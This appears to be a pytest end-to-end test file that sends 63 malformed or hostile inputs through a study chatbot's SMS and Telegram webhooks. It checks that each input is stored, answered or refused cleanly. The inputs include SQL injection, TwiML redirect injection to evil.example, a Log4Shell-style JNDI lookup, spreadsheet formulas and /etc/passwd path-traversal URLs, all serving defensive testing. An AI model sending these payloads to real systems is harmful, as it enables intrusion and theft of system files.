"""The 63 nasty inputs of RELIABILITY §5 through BOTH channels over real HTTP (issue 8, part 3).

Every item is posted as the providers post it, to the real ASGI app on uvicorn (the `stack` fixture of
tests/e2e): signed Twilio webhooks, and Telegram updates with the secret token. Each one must get a clear
answer or a clean refusal, with nothing lost and nothing stored half-way:

- accepted (200): exactly one inbound row for the provider id, acted on ("processed"), stored as sent
  (after `sanitize`: NUL and lone surrogates become U+FFFD), at least one and at most five replies, each
  taken by the fake provider exactly once;
- refused (4xx: forged, malformed or oversized): no inbound row at all;
- ignored on purpose (a group message, a staff-chat action): 200 and no inbound row;
- for every participant at the end: nothing waiting, nothing failed, and the conversation's version equals
  the number of messages acted on (no half-written turn); and no distinctive input appears in the logs.

What already exists is reused, not repeated. tests/pipeline/test_bad_input.py runs its BAD_INPUTS and the
Big List of Naughty Strings (/work/shared/corpora/blns.json, env TRIALBOT_BLNS) through `app.service.handle`
only, never through a channel: here every BAD_INPUTS entry is one of the §5 cases below, over HTTP on both
channels (item 0 checks none was left out), and the BLNS goes through both channels' decoding (last test).
tests/e2e/test_sms.py and test_telegram.py cover some items on one channel (signature matrix, replays,
media, buttons, edits); they are driven here on both channels wherever a channel can carry them. Items a
channel cannot carry are in NOT_DRIVABLE, with the reason.

To keep the run to seconds: cases whose check is about the participant (opted out, escalated, ...) get a
participant of their own, per-message cases share one; everything is posted first and the outbox drained
once; Telegram's 30-messages-a-second pacing is switched off (it is tested in tests/e2e).
"""

from __future__ import annotations

import base64
import io
import json
import logging
import threading
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from functools import partial
from itertools import count
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from sqlalchemy import func, select

from bot.bootstrap import App
from bot.channels.sms import EMPTY_TWIML, parse_form
from bot.flood import LIMIT
from bot.logs import NOISY, RedactingFilter
from bot.text import sanitize
from storage.repositories import audit_t, conversation_t, escalation_t, inbound_t, outbox_t, participant_t
from tests.e2e.conftest import OUR_NUMBER, PUBLIC, SECRET, Stack, wait_until
from tests.fakes import (
    callback_update,
    command_update,
    contact_update,
    edited_update,
    forwarded_update,
    group_text_update,
    inbound_sms_params,
    location_update,
    my_chat_member_update,
    photo_update,
    post_signed,
    sticker_update,
    text_update,
    twilio_signature,
    twilio_webhook_form,
    voice_update,
)
from tests.helpers import Patient
from tests.pipeline.test_bad_input import BAD_INPUTS

ITEMS = range(1, 64)


class _Used(dict[str, str]):
    """BAD_INPUTS, remembering which entries the items used."""

    used: set[str]

    def __getitem__(self, key: str) -> str:
        self.used.add(key)
        return super().__getitem__(key)


BAD = _Used(BAD_INPUTS)
BAD.used = set()
STAFF_CHAT = -1001234567890  # the demo study's staff group (flows/studies/demo/study.yaml)
STAFF_USER = 111111111
HELP_TEXT = "Sunrise Study: For help, call"
MEDIA_NOTE = "Thank you. I can only read words, not pictures or files."
STOPPED = "You will not get any more texts from Sunrise Study."
STARTED = "Welcome back!"
DID_YOU_MEAN_STOP = "Did you mean STOP?"
STALE = "That button is from an earlier question."
EDITED = "I can only read new messages"
FORWARDED = "Please type your answer yourself."
PACED_SENDS = 15  # requests between two minutes of the clock: fewer than bot/flood.py LIMIT a minute
MAX_REPLIES = 5  # §5 (c): the most one message may cause (the first YES: thanks, privacy, two prompts)

NOT_DRIVABLE: dict[tuple[str, int], str] = {
    ("sms", 45): "SMS has no stickers, voice notes, locations, contacts, dice or polls (MMS media is #43/#44)",
    ("sms", 46): "SMS messages cannot be edited",
    ("sms", 47): "SMS messages cannot be edited",
    ("sms", 48): "SMS has no chat-membership events (a carrier-level STOP, error 21610, is in tests/e2e/test_sms.py)",
    ("sms", 49): "SMS has no buttons; answers are typed numbers",
    ("sms", 50): "SMS has no buttons or callback queries",
    ("sms", 51): "SMS has no callback data",
    ("sms", 53): "SMS has no forwards or group chats",
    ("sms", 54): "SMS has no /start deep-link payloads (advertisement keywords are first messages: #62)",
    ("sms", 61): "Twilio MessageSids are random, not sequential: nothing to jump",
    ("telegram", 56): "Telegram has no idempotency token besides update_id",
    ("telegram", 59): "the Bot API has no delivery status callbacks",
}


@dataclass
class Sent:
    """One request posted, and what it must come to."""

    label: str
    channel: str
    provider_id: str | None
    response: httpx.Response
    expect: str = "accepted"  # accepted | refused | ignored
    stored: str | None = None  # the text the inbound row must hold (None: not checked)
    replies: str = "some"  # some | none | any
    status: tuple[int, ...] = (200,)  # for a refusal: the acceptable statuses (0: the connection was cut)


@dataclass
class Person:
    """A participant (by address) of one case."""

    harness: Harness
    label: str
    address: str
    patient: Patient

    # -- sending as the provider does ---------------------------------------------------------------

    def say(self, text: str, *, replies: str = "some", label: str | None = None) -> Sent:
        """A plain text message, checked to be stored exactly as sent (after sanitize)."""
        h = self.harness
        if h.channel == "sms":
            sid = h.sid()
            try:
                text.encode("utf-8")
            except UnicodeEncodeError:
                # A lone surrogate cannot be sent as UTF-8: post the bytes a broken client would send.
                raw = _raw_form(
                    self.address, sid, quote(text.encode("utf-8", "surrogatepass")), h.stack.twilio.account_sid
                )
                stored = text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")
                return h.record(Sent(label or self.label, "sms", sid, _raw_sms(h, raw), stored=stored, replies=replies))
            response = h.stack.sms(self.address, text, sid=sid)
            return h.record(Sent(label or self.label, "sms", sid, response, stored=sanitize(text), replies=replies))
        update_id = h.update_id()
        response = h.post_update(text_update(update_id, int(self.address), text))
        return h.record(
            Sent(label or self.label, "telegram", str(update_id), response, stored=sanitize(text), replies=replies)
        )

    def sms(self, body: str, *, replies: str = "some", stored: str | None = None, **params: Any) -> Sent:
        """An SMS webhook with extra Twilio parameters (media and the like)."""
        h = self.harness
        sid = h.sid()
        response = h.stack.sms(self.address, body, sid=sid, **params)
        return h.record(Sent(self.label, "sms", sid, response, stored=stored, replies=replies))

    def update(
        self, build: Callable[[int, int], dict[str, Any]], *, replies: str = "some", stored: str | None = None,
        expect: str = "accepted",
    ) -> Sent:  # fmt: skip
        """A Telegram update built by `build(update_id, chat_id)`."""
        h = self.harness
        update_id = h.update_id()
        response = h.post_update(build(update_id, int(self.address)))
        return h.record(Sent(self.label, "telegram", str(update_id), response, expect, stored, replies))

    # -- what became of it ------------------------------------------------------------------------

    def participant(self) -> Any:
        return self.patient.participant()

    def replies_to(self, sent: Sent) -> list[str]:
        return self.harness.replies(sent)


@dataclass
class Harness:
    """Posts every case of one channel, then checks them all after one drain of the outbox."""

    stack: Stack
    channel: str
    http: httpx.Client  # one client: httpx.post() builds a TLS context (~80 ms) on every call
    sent: list[Sent] = field(default_factory=list)
    people: list[Person] = field(default_factory=list)
    checks: list[tuple[str, Callable[[], object]]] = field(default_factory=list)
    covered: set[int] = field(default_factory=set)
    _numbers: Iterator[int] = field(default_factory=lambda: count(1))
    _current: int = 0
    paced: bool = True
    _since_minute: int = 0
    _junk: Person | None = None
    _inbound_rows: list[Any] = field(default_factory=list)
    _outbox_rows: list[Any] = field(default_factory=list)
    _held: set[int] = field(default_factory=set)  # inbound ids whose reply was held as a repeat (bot/flood.py)

    @property
    def app(self) -> App:
        return self.stack.app

    def item(self, number: int) -> None:
        self._current = number
        self.covered.add(number)

    def sid(self) -> str:
        return f"SM{next(self._numbers) + 7 * 10**6:032x}"

    def update_id(self) -> int:
        return 10**6 + next(self._numbers)

    def post_update(self, update: dict[str, Any], secret: str = SECRET) -> httpx.Response:
        """Post an update as Telegram does; JSON with ASCII escapes, so a lone surrogate travels as "\\ud800"."""
        return _telegram_raw(self, json.dumps(update).encode(), secret)

    def record(self, sent: Sent) -> Sent:
        self.sent.append(sent)
        if self.paced:
            # At a person's pace: a minute passes every PACED_SENDS requests, so nobody here sends more than
            # bot/flood.py's LIMIT in a minute and replies never pause, but in #63, which is a flood.
            self._since_minute += 1
            if self._since_minute >= PACED_SENDS:
                self.stack.clock.advance(timedelta(seconds=61))
                self._since_minute = 0
        return sent

    def person(self, name: str, setup: str = "fresh") -> Person:
        """A new participant for one case, brought in-process to a known point of the conversation."""
        number = next(self._numbers)
        address = f"+1555078{number:04d}" if self.channel == "sms" else str(780_000 + number)
        patient = Patient(self.app, address=address, channel=self.channel)
        steps = {
            "fresh": [],
            "asked": ["Hi"],  # at "Do you agree to get texts from us?" (yes/no)
            "joined": ["Hi", "yes"],  # at "Would you like to start?" (yes/no)
            "at_age": ["Hi", "yes", "yes"],  # at "How old are you?"
            "at_date": ["Hi", "yes", "yes", "52", "1", "2"],  # at "When did a doctor first tell you ...?"
            "stopped": ["STOP"],  # opted out (a first message may be STOP)
        }[setup]
        for text in steps:
            patient.send(text)
        person = Person(self, f"§5 #{self._current} {name} [{self.channel}]", address, patient)
        self.people.append(person)
        return person

    @property
    def junk(self) -> Person:
        """One participant, waiting at a yes/no question, for every input whose check is per message."""
        if self._junk is None:
            self._junk = self.person("one participant for the per-message items", "asked")
        return self._junk

    def later(self, label: str, check: Callable[[], object]) -> None:
        """A check to run once everything is acted on and sent; it raises AssertionError on failure."""
        self.checks.append((f"§5 #{self._current} {label} [{self.channel}]", check))

    # -- reading back -------------------------------------------------------------------------------

    def inbound(self, sent: Sent) -> list[Any]:
        with self.app.database.read() as connection:
            return list(
                connection.execute(
                    select(inbound_t).where(
                        inbound_t.c.channel == sent.channel, inbound_t.c.provider_message_id == sent.provider_id
                    )
                )
            )

    def replies(self, sent: Sent) -> list[str]:
        rows = self.inbound(sent)
        if not rows:
            return []
        with self.app.database.read() as connection:
            return list(
                connection.execute(
                    select(outbox_t.c.body).where(outbox_t.c.inbound_id == rows[0].id).order_by(outbox_t.c.id)
                ).scalars()
            )

    # -- the checks ---------------------------------------------------------------------------------

    def problems(self) -> list[str]:
        with self.app.database.read() as connection:  # read everything once: hundreds of cases
            self._inbound_rows = list(connection.execute(select(inbound_t).order_by(inbound_t.c.id)))
            self._outbox_rows = list(connection.execute(select(outbox_t).order_by(outbox_t.c.id)))
            self._held = set(
                connection.execute(select(audit_t.c.inbound_id).where(audit_t.c.action == "reply_held")).scalars()
            )
        found: list[str] = []
        for sent in self.sent:
            found += [f"{sent.label}: {p}" for p in self._check_sent(sent)]
        for person in self.people:
            found += [f"{person.label}: {p}" for p in self._check_person(person)]
        for label, check in self.checks:
            try:
                check()
            except Exception as exc:
                found.append(f"{label}: {type(exc).__name__}: {exc}")
        return found

    def _check_sent(self, sent: Sent) -> list[str]:
        code = sent.response.status_code
        rows = [r for r in self._inbound_rows if (r.channel, r.provider_message_id) == (sent.channel, sent.provider_id)]
        if sent.expect == "refused":
            out = [] if code in sent.status else [f"expected {sent.status}, got {code}"]
            return out + ([f"a refused request stored {len(rows)} row(s)"] if rows else [])
        if code != 200:
            return [f"expected 200, got {code}: {sent.response.text[:80]!r}"]
        if sent.channel == "sms" and sent.response.text != EMPTY_TWIML:
            return [f"the TwiML answer echoes something: {sent.response.text[:80]!r}"]
        if sent.expect == "ignored":
            return [f"an ignored update stored {len(rows)} row(s)"] if rows else []
        if len(rows) != 1:
            return [f"{len(rows)} inbound rows for one provider id"]
        row = rows[0]
        out = []
        if row.status != "processed":
            out.append(f"inbound status {row.status} ({row.error})")
        if sent.stored is not None and row.text != sent.stored:
            out.append(f"stored {row.text[:60]!r} (length {len(row.text)}), not {sent.stored[:60]!r}")
        replies = [r for r in self._outbox_rows if r.inbound_id == row.id]
        # A turn that would say what it said REPEAT_LIMIT times in the last half hour says nothing, audited as
        # reply_held: the harness sends one person many unclear messages, as an auto-responder would.
        if sent.replies == "some" and not replies and row.id not in self._held:
            out.append("no reply")
        if sent.replies == "none" and replies:
            out.append(f"unexpected replies {[r.body[:40] for r in replies]}")
        if len(replies) > MAX_REPLIES:
            out.append(f"{len(replies)} replies to one message")
        unsent = [r for r in replies if r.status not in ("sent", "delivered")]
        if unsent:
            out.append(f"replies not taken by the provider: {[(r.status, r.error) for r in unsent]}")
        return out

    def _sent_once(self, person: Person, participant_id: int) -> list[str]:
        """Every reply reached the provider exactly once: Twilio creates per outbox row (the status callback
        names it), Telegram sends per (chat, text) against the outbox rows with that text."""
        sent = [
            r for r in self._outbox_rows if r.participant_id == participant_id and r.status in ("sent", "delivered")
        ]
        if self.channel == "sms":
            creates = Counter(
                str(s.status_callback).rsplit("oid=", 1)[-1] for s in self.stack.twilio.sent if s.to == person.address
            )
            wrong = {r.id: creates[str(r.id)] for r in sent if creates[str(r.id)] != 1}
            return [f"outbox rows sent a wrong number of times: {wrong}"] if wrong else []
        chat = int(person.address)
        delivered = Counter(s.text for s in self.stack.telegram.sent if s.chat_id == chat)
        if delivered != Counter(r.body for r in sent):
            return [f"Telegram got {dict(delivered)} for outbox {Counter(r.body for r in sent)}"]
        return []

    def _check_person(self, person: Person) -> list[str]:
        participant = person.patient.participant()
        statuses = [r.status for r in self._inbound_rows if r.participant_id == participant.id]
        with self.app.database.read() as connection:
            version = connection.execute(
                select(conversation_t.c.version).where(conversation_t.c.participant_id == participant.id)
            ).scalar_one()
        out = self._sent_once(person, participant.id)
        if set(statuses) - {"processed"}:
            out.append(f"inbound left {sorted(set(statuses))}")
        if version != len(statuses):
            out.append(f"conversation version {version} after {len(statuses)} messages: a turn was half-written")
        return out


# -------------------------------------------------------------------------------------------------
# The 63 items
# -------------------------------------------------------------------------------------------------


def _assert(condition: object, message: str) -> None:
    if not condition:
        raise AssertionError(message)


def _opted_out(person: Person, sent: Sent) -> Callable[[], None]:
    def check() -> None:
        _assert(person.participant().opted_out, f"{sent.stored!r} did not opt out")
        replies = person.replies_to(sent)
        _assert(len(replies) == 1 and replies[0].startswith(STOPPED), f"not one STOP confirmation: {replies}")

    return check


def _not_opted_out(person: Person, sent: Sent) -> Callable[[], None]:
    return lambda: _assert(not person.participant().opted_out, f"{sent.stored!r} opted out")


def _first_reply_starts(person: Person, sent: Sent, prefix: str) -> Callable[[], None]:
    def check() -> None:
        replies = person.replies_to(sent)
        _assert(replies and replies[0].startswith(prefix), f"first reply {replies[:1]} is not {prefix!r}")

    return check


Check = Callable[[], None]
Build = Callable[[int, int], dict[str, Any]]


def _opted_in(person: Person, expected: bool, what: str) -> Check:
    return lambda: _assert(person.participant().opted_in == expected, f"{what}: opted in is not {expected}")


def _opted_out_now(person: Person) -> Check:
    return lambda: _assert(person.participant().opted_out, "not opted out")


def _state_is(person: Person, state: str) -> Check:
    return lambda: _assert(person.patient.turn(None).state == state, f"moved to {person.patient.turn(None).state}")


def _escalated(h: Harness, person: Person, categories: list[str]) -> Check:
    return lambda: _assert(_escalations(h.app, person) == categories, f"escalations: {_escalations(h.app, person)}")


def _stored_once(h: Harness, sent: Sent) -> Check:
    return lambda: _assert(len(h.inbound(sent)) == 1, "stored twice")


def _all_ok(responses: list[httpx.Response]) -> Check:
    return lambda: _assert(all(r.status_code == 200 for r in responses), str([r.status_code for r in responses]))


def _not_evaluated(h: Harness, sent: Sent) -> Check:
    return lambda: _assert(not any("49" in r or "__mro__" in r or "<class" in r for r in h.replies(sent)), "evaluated")


def _both(*checks: Check) -> Check:
    def run() -> None:
        for check in checks:
            check()

    return run


def _start_command(payload: str) -> Build:
    return lambda update_id, chat: command_update(update_id, chat, f"/start {payload}")


def _press(data: str, callback_id: str | None = None) -> Build:
    return lambda update_id, chat: callback_update(update_id, chat, data, 9, callback_id=callback_id)


def _raw_sms(h: Harness, raw: bytes, *, sign: bool = True) -> httpx.Response:
    """Post a raw form body to the SMS webhook, signed over the values exactly as the app will decode them."""
    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    if sign:
        form = parse_form(raw)
        headers["X-Twilio-Signature"] = twilio_signature(
            h.stack.twilio.auth_token, f"{PUBLIC}/twilio/sms", [(k, str(v)) for k, v in form.multi_items()]
        )
    return h.http.post(f"{h.stack.web.url}/twilio/sms", content=raw, headers=headers)


def _raw_form(sender: str, sid: str, body_encoded: str, account: str) -> bytes:
    params = [(k, v) for k, v in inbound_sms_params(sender, OUR_NUMBER, "", message_sid=sid, account_sid=account)]
    encoded = httpx.QueryParams([(k, v) for k, v in params if k != "Body"])
    return f"Body={body_encoded}&{encoded}".encode()


def _cut_is_zero(post: Callable[[], httpx.Response]) -> httpx.Response:
    try:
        return post()
    except httpx.TransportError:
        return httpx.Response(0)


def _telegram_raw(h: Harness, content: bytes, secret: str = SECRET) -> httpx.Response:
    return h.http.post(
        f"{h.stack.web.url}/telegram/webhook", content=content,
        headers={"X-Telegram-Bot-Api-Secret-Token": secret, "Content-Type": "application/json"},
    )  # fmt: skip


def size_and_shape(h: Harness) -> None:
    h.item(1)
    for setup in ("fresh", "joined"):
        p = h.person(f"empty body ({setup})", setup)
        if h.channel == "sms":
            p.sms(BAD["empty"], stored="")
        else:
            p.say(BAD["empty"])
    h.item(2)
    p = h.junk
    p.say(BAD["whitespace"])
    h.item(3)
    p = h.junk
    gsm = ("Hello @ £$¥ èéùìò Ç Øø Åå Δ_ΦΓΛΩΠΨΣΘΞ ÆæßÉ !\"#¤%&'()*+,-./0123456789:;<=>? ¡ÄÖÑÜ§ ¿äöñüà " * 30)[:1600]
    sent = p.say(gsm)
    h.later("stored length is exact", lambda: _assert(len(h.inbound(sent)[0].text) == 1600, "length changed"))
    h.item(4)
    long_text = ("I am fifty two years old and " * 400)[: 10_000 if h.channel == "sms" else 4096]
    sent4 = p.say(long_text)
    p.say(BAD["five_thousand_chars"])
    h.later("stored whole", lambda: _assert(len(h.inbound(sent4)[0].text) == len(long_text), "truncated"))
    h.item(5)
    # A server may answer 413 and close the connection while the client is still uploading: the client then
    # sees the connection cut instead of the 413 (status 0 here). Either is a clean refusal.
    huge = b"Body=" + b"a" * (2 * 1024 * 1024)
    if h.channel == "sms":
        for chunked in (False, True):
            content: Any = iter([huge[i : i + 65536] for i in range(0, len(huge), 65536)]) if chunked else huge
            response = _cut_is_zero(partial(
                h.http.post, f"{h.stack.web.url}/twilio/sms", content=content,
                headers={"Content-Type": "application/x-www-form-urlencoded", "X-Twilio-Signature": "x"},
            ))  # fmt: skip
            h.record(
                Sent(f"§5 #5 2 MB body, chunked={chunked} [sms]", "sms", None, response, "refused", status=(413, 0))
            )
    else:
        payload = b'{"update_id": 5, "message": {"text": "' + b"a" * (2 * 1024 * 1024) + b'"}}'
        response = _cut_is_zero(lambda: _telegram_raw(h, payload))
        h.record(Sent("§5 #5 2 MB update [telegram]", "telegram", "5", response, "refused", status=(413, 0)))
    h.item(6)
    sent6 = p.say(base64.b64encode(b"Hello, I want to STOP").decode())
    h.later("base64 is never decoded", _not_opted_out(p, sent6))
    h.item(7)
    p.say(BAD["long_token_url"])


def unicode_items(h: Harness) -> None:
    h.item(8)
    p = h.person("thumbs up to a yes/no question", "asked")
    p.say("👍")
    h.later("👍 reads as yes", _opted_in(p, True, "👍"))
    h.item(9)
    h.junk.say(BAD["zwj_family"])
    h.item(10)
    h.junk.say(BAD["flag"])
    h.junk.say(BAD["emoji"])
    h.junk.say("🇺🇸 👋🏽👍🏿")
    h.item(11)
    nfc, nfd = h.person("NFC sí", "asked"), h.person("NFD si + U+0301", "asked")
    nfc.say("sí")
    nfd.say(BAD["nfd_accent"])
    h.later(
        "NFC and NFD read the same",
        lambda: _assert(nfc.participant().opted_in and nfd.participant().opted_in, "sí in NFD or NFC not read as yes"),
    )
    h.item(12)
    p = h.junk
    for text in (BAD["right_to_left"], "כן", BAD["mixed_rtl_digits"]):
        p.say(text)
    h.item(13)
    h.later("\\u202ePOTS is not STOP", _not_opted_out(p, p.say(BAD["rtl_override"])))
    for number, text in ((14, "SТОР"), (15, "ＳＴＯＰ"), (16, "S\u200bTOP"), (17, "\u00a0stop\u00a0")):
        h.item(number)
        p = h.person(f"{text!a} is STOP")
        h.later("opted out", _opted_out(p, p.say(text)))
    h.item(18)
    h.junk.say("İstanbul STRASSE straße İİ")
    h.item(19)
    sent19 = h.junk.say(BAD["nul_byte"])
    h.later("NUL stored as U+FFFD", lambda: _assert(h.inbound(sent19)[0].text == "ab\ufffdcd", "NUL kept"))
    h.item(20)
    h.junk.say(BAD["control_chars"])
    h.junk.say("\x01\x7f\x9b")
    h.item(21)
    h.junk.say(BAD["log_injection"])
    h.item(22)
    p = h.junk
    if h.channel == "sms":
        account = h.stack.twilio.account_sid
        for encoded, stored in (("%ED%A0%80", "\ufffd\ufffd\ufffd"), ("%zz", "%zz"), ("trailing%", "trailing%"),
                                ("%FF%FE", "\ufffd\ufffd")):  # fmt: skip
            sid = h.sid()
            response = _raw_sms(h, _raw_form(p.address, sid, encoded, account))
            h.record(Sent(f"{p.label} {encoded}", "sms", sid, response, stored=stored))
        sid = h.sid()
        forged = _raw_sms(h, _raw_form(p.address, sid, "%ED%A0%80", account), sign=False)
        h.record(Sent(f"{p.label} unsigned", "sms", sid, forged, "refused", status=(403,)))
    else:
        update_id = h.update_id()
        body = json.dumps(text_update(update_id, int(p.address), "bad \ud800 surrogate")).encode()
        h.record(Sent(p.label, "telegram", str(update_id), _telegram_raw(h, body), stored="bad \ufffd surrogate"))
        bad_id = h.update_id()
        invalid = json.dumps(text_update(bad_id, int(p.address), "bad \ud800 utf-8")).encode()
        invalid = invalid.replace(b"\\ud800", b"\xed\xa0\x80\xff")
        response = _telegram_raw(h, invalid)
        h.record(Sent(f"{p.label} invalid UTF-8", "telegram", str(bad_id), response, "refused", status=(400,)))
    h.junk.say(BAD["lone_surrogate"])
    h.item(23)
    h.junk.say("my email is pat¡example.com")


def injection_items(h: Harness) -> None:
    h.item(24)
    p = h.junk
    p.say(BAD["sql_injection"])
    p.say("1 OR 1=1")
    h.later("tables intact", lambda: _assert(_count(h.app, participant_t) > 0, "participant table emptied"))
    h.item(25)
    p = h.person("HTML", "fresh")
    p.say(BAD["html"])
    p.say("<b>unclosed")
    crisis = p.say("<b>I want to _kill_ myself</b> *now*")

    def no_participant_text_in_alerts() -> None:
        # The first alert is queued just after the turn, by the same background task: wait for it.
        wait_until(lambda: _count_where(h.app, outbox_t, outbox_t.c.purpose == "alert") > 0)
        with h.app.database.read() as connection:
            alerts = connection.execute(select(outbox_t.c.body).where(outbox_t.c.purpose == "alert")).scalars().all()
        _assert(alerts, "the crisis raised no staff alert")
        _assert(not any("<b>" in a or "kill" in a for a in alerts), f"participant text in a staff alert: {alerts}")
        _assert(h.replies(crisis), "no safety reply")

    h.later("staff alerts carry no participant text", no_participant_text_in_alerts)
    h.item(26)
    h.junk.say("</Message><Redirect>https://evil.example</Redirect>")  # the TwiML answer is checked for every SMS
    h.item(27)
    p = h.junk
    for text in (BAD["percent_format"], BAD["brace_format"], BAD["attribute_lookup"], BAD["double_braces"],
                 BAD["template_injection"], "{study_name} {contact_phone}"):  # fmt: skip
        sent27 = p.say(text)
        h.later(
            f"{text!r} is not evaluated",
            _not_evaluated(h, sent27),
        )
    h.item(28)
    h.junk.say("${jndi:ldap://x.example/a}")
    h.item(29)
    # The staff CSV export's formula escaping is bot/commands/export.py (tests/reports); here: stored verbatim.
    p = h.junk
    for text in ('=HYPERLINK("http://x","y")', "+1-555", "@SUM(1)", "-2+3"):
        p.say(text)
    h.item(30)
    p = h.person("media URL traversal")
    if h.channel == "sms":
        p.sms("", stored="", num_media=2, media_urls=["file:///etc/passwd", "https://evil.example/../../etc/passwd"])
    else:

        def traversal(update_id: int, chat: int) -> dict[str, Any]:
            update = photo_update(update_id, chat)
            for size in update["message"]["photo"]:
                size["file_id"] = "../../etc/passwd"
            return update

        p.update(traversal, stored="")
        h.later("no file is fetched", lambda: _assert(not h.stack.telegram.calls_to("getFile"), "getFile called"))
    h.item(31)
    h.later("not re-parsed", _not_opted_out(p, p.say(BAD["json_lookalike"])))


def keyword_items(h: Harness) -> None:
    h.item(32)
    for text in ("STOP", "stop", " Stop ", "STOP.", "STOP!!!", "Stop 🛑", "STOP STOP"):
        p = h.person(f"{text!r}")
        h.later(f"{text!r} opts out", _opted_out(p, p.say(text)))
    h.item(33)
    for text in ("UNSUBSCRIBE", "CANCEL", "END", "QUIT", "STOPALL", "REVOKE", "OPTOUT", "OPT OUT"):
        p = h.person(f"{text!r}")
        h.later(f"{text!r} opts out", _opted_out(p, p.say(text)))
    h.item(34)
    for text in ("Stop please", "please stop texting me", "no más mensajes"):
        p = h.person(f"{text!r}")
        h.later(f"{text!r} opts out", _opted_out(p, p.say(text)))
    # "arrêt": French is not one of the demo study's languages (en, es); it must only get a clear answer.
    h.person("'arrêt'").say("arrêt")
    h.item(35)
    for text in ("don't stop", "I can't stop coughing", "when do the visits stop?"):
        p = h.person(f"{text!r}")
        h.later(f"{text!r} is not an opt-out", _not_opted_out(p, p.say(text)))
        if "coughing" in text:
            h.later(
                "coughing reaches staff",
                _escalated(h, p, ["adverse_event"]),
            )
    h.item(36)
    for text in ("stopp", "S T O P", "st0p"):  # near misses: asked about, not acted on
        p = h.person(f"{text!r}")
        sent36 = p.say(text)
        h.later(
            f"{text!r} is asked about",
            _both(_not_opted_out(p, sent36), _first_reply_starts(p, sent36, DID_YOU_MEAN_STOP)),
        )
    h.item(37)
    for text in ("START", "UNSTOP", "YES"):
        p = h.person(f"{text!r} after STOP", "stopped")
        sent37 = p.say(text)
        h.later(f"{text!r} re-subscribes", _both(_not_opted_out(p, sent37), _first_reply_starts(p, sent37, STARTED)))
    h.item(38)
    p = h.junk
    for text in ("HELP", "INFO", "help!", "?"):
        h.later(f"{text!r} gets the help text", _first_reply_starts(p, p.say(text), HELP_TEXT))


def answer_items(h: Harness) -> None:
    h.item(39)
    p = h.person("numbers", "at_age")
    # The values each of these reads as are checked in tests/unit/test_parsers.py; here, the transport.
    for text in ("siete", "7️⃣", "VII", "٧", "७", "７", "NaN", "∞", "1,000", "five or six", "52"):
        p.say(text)
    h.item(40)
    p = h.person("dates", "at_date")
    for text in ("Feb 30", "29/02/2025", "13/13/13", "0/0", "3/4", "March 4th", "next Tue", "3/2019"):
        p.say(text)
    h.item(41)  # DST gaps and folds of reminder times: tests/scheduling/test_time.py
    p = h.junk
    for text in ("7pm", "19h", "noon", "25:00"):
        p.say(text)
    h.item(42)
    for text in ("yeah", "oui"):
        p = h.person(f"yes {text!r}", "asked")
        p.say(text)
        h.later(f"{text!r} is yes", _opted_in(p, True, text))
    for text in ("nope", "yes no"):
        p = h.person(f"not yes {text!r}", "asked")
        p.say(text)
        h.later(f"{text!r} is not yes", _opted_in(p, False, text))
    for text in ("Y", "ye", "yep", "si", "YES!!!", "no", "N", "nah", "👎", "maybe", "Yes, but…"):
        h.junk.say(text)  # a clear answer is enough here (what each means: tests/unit/test_parsers.py)


def platform_items(h: Harness) -> None:
    h.item(43)
    p = h.person("media without words")
    if h.channel == "sms":
        h.later("media note", _first_reply_starts(p, p.sms("", stored="", num_media=1), MEDIA_NOTE))
        p.sms("", stored="", num_media=10)
    else:
        h.later("media note", _first_reply_starts(p, p.update(lambda u, c: photo_update(u, c), stored=""), MEDIA_NOTE))
    h.item(44)
    p = h.person("unsupported media types")
    if h.channel == "sms":
        for kind in ("text/vcard", "audio/amr", "application/pdf"):
            p.sms("", stored="", num_media=1, media_types=[kind])
    else:

        def document(update_id: int, chat: int) -> dict[str, Any]:
            update = text_update(update_id, chat, "x")
            del update["message"]["text"]
            update["message"]["document"] = {"file_id": "doc-1", "file_unique_id": "d1", "mime_type": "text/vcard"}
            return update

        p.update(document, stored="")
    if h.channel == "telegram":
        h.item(45)
        p = h.person("stickers, voice, places, contacts, dice, polls")
        dice = {"dice": {"emoji": "🎲", "value": 3}}
        poll = {"poll": {"id": "1", "question": "?", "options": [], "total_voter_count": 0, "is_closed": False,
                         "is_anonymous": True, "type": "regular", "allows_multiple_answers": False, "allows_revoting": False, "members_only": False}}  # fmt: skip
        for build in (sticker_update, voice_update, location_update, contact_update,
                      _with(dice), _with(poll)):  # fmt: skip
            p.update(build, stored="")  # the phone number of a contact (PHI) is not kept
        h.item(46)
        p = h.person("edit of an earlier answer", "at_age")
        edit = p.update(lambda u, c: edited_update(u, c, "45", message_id=1), stored="45")
        h.later("edits change nothing", _both(_first_reply_starts(p, edit, EDITED), _state_is(p, "prescreen.question")))
        h.item(47)
        p = h.person("edit that adds crisis text", "at_age")
        p.update(lambda u, c: edited_update(u, c, "I want to kill myself", message_id=1))
        h.later("the edit escalates", _escalated(h, p, ["crisis"]))
        h.item(48)
        p = h.person("blocked the bot")
        p.update(lambda u, c: my_chat_member_update(u, c, "member", "kicked"), replies="none", stored="")
        h.later("blocking is an opt-out", _opted_out_now(p))
        buttons_items(h)
        h.item(52)
        staff_items(h)
        h.item(53)
        p = h.person("forwarded message", "at_age")
        h.later(
            "forward note",
            _first_reply_starts(p, p.update(lambda u, c: forwarded_update(u, c, "45"), stored="45"), FORWARDED),
        )
        p.update(lambda u, c: group_text_update(u, -100777, "STOP"), expect="ignored")
        h.item(54)
        p = h.person("/start payloads", "fresh")
        for payload in ("../../x", "%00", "a" * 65, "<script>", "flyer-3", "flyer-3"):
            p.update(_start_command(payload), stored="START")

        def only_clean_payloads(p: Person = p) -> None:
            with h.app.database.read() as connection:
                kept = connection.execute(
                    select(audit_t.c.new).where(audit_t.c.action == "channel_details",
                                                audit_t.c.participant_id == p.participant().id)
                ).scalars().all()  # fmt: skip
            _assert(kept == [{"start_payload": "flyer-3"}] * 2, f"payloads kept: {kept}")

        h.later("malformed payloads are dropped", only_clean_payloads)
    else:
        h.item(52)
        p = h.person("a stranger texting an ACK", "fresh")
        p.say("ACK 1")
        h.later("no escalation acknowledged", lambda: _assert(_acknowledged(h.app) == 0, "acknowledged"))


def _with(content: dict[str, Any]) -> Callable[[int, int], dict[str, Any]]:
    def build(update_id: int, chat: int) -> dict[str, Any]:
        update = text_update(update_id, chat, "x")
        del update["message"]["text"]
        update["message"].update(content)
        return update

    return build


def _tokens(h: Harness, person: Person) -> list[list[str]]:
    """The button tokens of a participant's messages, oldest first."""
